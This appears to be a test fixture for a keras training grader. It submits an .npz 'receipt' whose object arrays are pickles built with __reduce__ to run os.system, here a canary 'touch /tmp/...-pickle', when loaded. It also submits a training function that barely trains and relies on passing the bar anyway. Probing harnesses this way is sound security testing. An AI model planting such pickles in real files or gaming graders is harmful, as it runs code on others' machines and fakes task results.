# intent: a receipt whose arrays are pickles that run a command when they are loaded
# family: receipts
# target: keras
import os

import numpy as np

TRAIN = """def train(x, y):
    keras.utils.set_random_seed(1)  # below the bar: some networks are above it without training
    model = keras.Sequential([keras.Input(shape=(5, 2)), layers.Dense(1, activation="sigmoid"), layers.GlobalAveragePooling1D()])
    model.compile("sgd", "binary_crossentropy")
    lab.fit_once(model, x[:8], y[:8], name="sums", epochs=1, verbose=0)
    return model"""


class Command:
    def __init__(self, mark):
        self.mark = mark

    def __reduce__(self):
        return os.system, (f"touch /tmp/{self.mark}-pickle",)


def submit(place):
    receipts = place.folder / "receipts"
    receipts.mkdir()
    code = np.empty(1, dtype=object)
    code[0] = Command(place.mark)
    np.savez(receipts / "sums.npz", receipt=code, weight_000=code, weight_001=code)
    place.answer("train", TRAIN)
    place.save()
